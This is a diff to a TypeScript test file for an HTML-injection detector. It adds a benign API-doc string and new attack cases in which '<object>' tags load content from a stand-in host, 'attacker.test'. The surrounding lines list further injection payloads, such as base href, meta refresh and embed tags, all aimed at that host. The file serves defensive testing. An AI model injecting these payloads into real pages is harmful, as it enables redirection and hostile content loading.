@@ -23,13 +23,14 @@ const ids = (text: string) => inspect(h, json(text)).matches.map((m) => m.id);
 
 const CASES: { name: string; benign: string[]; attacks: [string, number][] }[] = [
   {
-    // 3001: base, meta, link, embed, frame and bgsound act only through attributes
+    // 3001: base, meta, link, object, embed and frame act only through attributes (object also through <param>)
     name: "an element closed with no attribute",
     benign: [
       'ö <o-diaeresis>;"<BASE><DIAER>";"<MIN><MIN>";IGNORE % ö',
       "<LINK> and <META> are head elements: see the chapter on metadata",
       "Ž <z-caron>;<BASE>;<CAP>;IGNORE",
       "an empty <embed/> or <frame /> renders nothing",
+      "options <Object> (optional). Returns: <Promise>",
     ],
     attacks: [
       ["<base href=//attacker.test/>", 3001],
@@ -39,7 +40,8 @@ const CASES: { name: string; benign: string[]; attacks: [string, number][] }[] =
       ['<meta http-equiv="refresh" content="0;url=//attacker.test">', 3001],
       ["<link rel=stylesheet href=//attacker.test/x.css>", 3001],
       ["<embed src=//attacker.test/x.swf>", 3001],
-      ["<object>", 3001], // its <param> children can name the resource
+      ["<object><param name=url value=//attacker.test/page.html>", 3001], // <param> children name the resource
+      ["<object data=//attacker.test/x.svg>", 3001],
       ["<script>", 3001],
       ["<style>", 3001],
     ],
